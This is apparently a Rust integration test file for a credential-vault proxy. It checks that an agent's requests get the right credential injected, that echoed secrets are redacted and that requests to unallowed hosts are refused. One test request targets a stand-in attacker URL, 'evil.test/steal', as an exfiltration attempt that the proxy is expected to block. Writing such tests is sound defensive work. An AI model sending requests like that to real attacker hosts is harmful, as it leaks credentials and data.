//! The primary path end to end on loopback: agent -> sidecar proxy (on a Unix socket in place
//! of vsock) -> host relay -> device link -> the device's HTTPS call to a real server that
//! answers 401 without the right credential.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;

use nanoclaw_tests::credential::{
    attach, make_vault, pair, random_secret, sidecar, start_device, start_proxy,
};
use nanoclaw_tests::http::{http, http_with_head};
use nanoclaw_tests::upstream::{make_ca, start_upstream};

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_device_makes_the_call_and_only_to_allowed_hosts() {
    let dir = tempfile::tempdir().unwrap();
    let ca = make_ca(dir.path());
    let secret = random_secret();
    let upstream = start_upstream(&ca, &["api.test", "other.test"], &secret).await;
    let port = upstream.addr.port();
    let api = format!("api.test:{port}");
    let other = format!("other.test:{port}");
    let vault = make_vault(dir.path(), &api, &other, &secret);

    let relay = host_agent::relay::Relay::open(&dir.path().join("host"), "test-host").unwrap();
    let (relay_addr, _listener) = relay.listen("127.0.0.1:0".parse().unwrap()).await.unwrap();
    pair(&vault, &relay, relay_addr).await;
    let resolve = vec![
        ("api.test".to_owned(), upstream.addr),
        ("other.test".to_owned(), upstream.addr),
    ];
    let _device = start_device(&vault, &ca, resolve).await;
    tokio::time::timeout(std::time::Duration::from_secs(10), relay.wait_linked())
        .await
        .expect("the device links up");

    let vm_dir = dir.path().join("vm");
    std::fs::create_dir(&vm_dir).unwrap();
    let sc = sidecar();
    let _vm = attach(&relay, &vm_dir, &sc, sc.public);
    let proxy = start_proxy(&vm_dir, &sc);

    let seen = std::sync::Arc::clone(&upstream.seen);
    let api2 = api.clone();
    let other2 = other.clone();
    let secret2 = secret.clone();
    tokio::task::spawn_blocking(move || {
        // Base-URL mode, with a body.
        let (status, body) = http(
            proxy,
            "POST /svc/hello HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\n\r\nworld",
        );
        assert_eq!((status, body.as_str()), (200, "hello world"));

        // HTTP_PROXY mode; the agent's own Authorization is replaced.
        let (status, body) = http(
            proxy,
            &format!(
                "GET http://{api2}/hello HTTP/1.1\r\nHost: {api2}\r\nAuthorization: Bearer agent-guess\r\n\r\n"
            ),
        );
        assert_eq!((status, body.as_str()), (200, "hello "));

        // A host no credential allows: refused, nothing sent.
        let before = seen.lock().unwrap().requests.len();
        let (status, body) = http(
            proxy,
            "GET http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        );
        assert_eq!(status, 403, "{body}");
        assert!(body.contains("evil.test"), "{body}");
        // A host allowed for a credential without a grant: refused, nothing sent.
        let (status, body) = http(
            proxy,
            &format!("GET http://{other2}/hello HTTP/1.1\r\n\r\n"),
        );
        assert_eq!(status, 403, "{body}");
        let (status, _) = http(proxy, "GET /other/hello HTTP/1.1\r\n\r\n");
        assert_eq!(status, 403);
        let (status, body) = http(proxy, "GET /nosuch/hello HTTP/1.1\r\n\r\n");
        assert_eq!(status, 404, "{body}");
        assert_eq!(seen.lock().unwrap().requests.len(), before);

        // An upstream that echoes the credential: every copy is redacted, in the headers and in
        // a body that arrives a byte at a time.
        let (status, head, body) = http_with_head(proxy, "GET /svc/echo HTTP/1.1\r\n\r\n");
        assert_eq!(status, 200, "{body}");
        let redacted = "[credential redacted by vault-device]";
        assert_eq!(body, format!("you sent: Bearer {redacted}\n"));
        assert!(head.contains(&format!("x-echo: Bearer {redacted}")), "{head}");
        assert!(!head.contains(&secret2) && !body.contains(&secret2));

        // HTTPS and CONNECT are refused with a hint.
        let (status, body) = http(proxy, "CONNECT api.test:443 HTTP/1.1\r\n\r\n");
        assert_eq!(status, 405);
        assert!(body.contains("http://"), "{body}");
    })
    .await
    .unwrap();

    // Streaming: the first event reaches the agent while the server still holds the last.
    let seen = std::sync::Arc::clone(&upstream.seen);
    let upstream = std::sync::Arc::new(upstream);
    let up = std::sync::Arc::clone(&upstream);
    tokio::task::spawn_blocking(move || {
        let mut s = TcpStream::connect(proxy).unwrap();
        s.write_all(
            b"GET /svc/sse HTTP/1.1\r\nAccept: text/event-stream\r\nConnection: close\r\n\r\n",
        )
        .unwrap();
        let mut r = BufReader::new(s);
        let mut line = String::new();
        let mut got_first = false;
        while r.read_line(&mut line).unwrap() > 0 {
            if line.contains("data: first") {
                got_first = true;
                break;
            }
            line.clear();
        }
        assert!(got_first);
        assert_eq!(seen.lock().unwrap().sse_released_by_client, None);
        up.release();
        let mut rest = String::new();
        while r.read_line(&mut line).unwrap() > 0 {
            rest.push_str(&line);
            line.clear();
        }
        assert!(rest.contains("data: last"), "{rest}");
        assert_eq!(seen.lock().unwrap().sse_released_by_client, Some(true));
    })
    .await
    .unwrap();

    // Every request that reached the server carried the right credential, and no request ever
    // carried the ungranted one.
    let seen = upstream.seen.lock().unwrap();
    assert_eq!(seen.requests.len(), 4);
    for (host, _, auth) in &seen.requests {
        assert_eq!(auth.as_deref(), Some(format!("Bearer {secret}").as_str()));
        assert_eq!(host, &api);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_host_that_announces_the_wrong_sidecar_key_gets_no_session() {
    let dir = tempfile::tempdir().unwrap();
    let ca = make_ca(dir.path());
    let secret = random_secret();
    let upstream = start_upstream(&ca, &["api.test"], &secret).await;
    let api = format!("api.test:{}", upstream.addr.port());
    let vault = make_vault(dir.path(), &api, &api, &secret);
    let relay = host_agent::relay::Relay::open(&dir.path().join("host"), "test-host").unwrap();
    let (relay_addr, _listener) = relay.listen("127.0.0.1:0".parse().unwrap()).await.unwrap();
    pair(&vault, &relay, relay_addr).await;
    let _device = start_device(&vault, &ca, vec![("api.test".into(), upstream.addr)]).await;
    tokio::time::timeout(std::time::Duration::from_secs(10), relay.wait_linked())
        .await
        .unwrap();
    let vm_dir = dir.path().join("vm");
    std::fs::create_dir(&vm_dir).unwrap();
    let sc = sidecar();
    // The relay tells the device about a key that is not the sidecar's.
    let _vm = attach(&relay, &vm_dir, &sc, sidecar().public);
    let proxy = start_proxy(&vm_dir, &sc);
    let (status, body) =
        tokio::task::spawn_blocking(move || http(proxy, "GET /svc/hello HTTP/1.1\r\n\r\n"))
            .await
            .unwrap();
    assert_eq!(status, 502, "{body}");
    assert!(upstream.seen.lock().unwrap().requests.is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_linked_device_is_a_clear_503() {
    let dir = tempfile::tempdir().unwrap();
    let relay = host_agent::relay::Relay::open(&dir.path().join("host"), "test-host").unwrap();
    let vm_dir = dir.path().join("vm");
    std::fs::create_dir(&vm_dir).unwrap();
    let sc = sidecar();
    let _vm = attach(&relay, &vm_dir, &sc, sc.public);
    let proxy = start_proxy(&vm_dir, &sc);
    let (status, body) =
        tokio::task::spawn_blocking(move || http(proxy, "GET /svc/x HTTP/1.1\r\n\r\n"))
            .await
            .unwrap();
    assert_eq!(status, 503);
    assert!(body.contains("no device"), "{body}");
}
